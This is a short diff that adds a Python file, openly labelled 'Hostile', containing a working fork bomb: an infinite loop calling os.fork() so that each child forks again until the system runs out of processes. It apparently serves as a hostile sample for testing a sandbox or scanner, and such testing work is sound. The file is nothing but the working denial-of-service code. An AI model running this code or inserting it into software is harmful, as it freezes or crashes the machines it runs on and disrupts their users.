@@ -1,0 +1,5 @@
+"""Hostile: forks without end (every child forks too)."""
+import os
+
+while True:
+    os.fork()
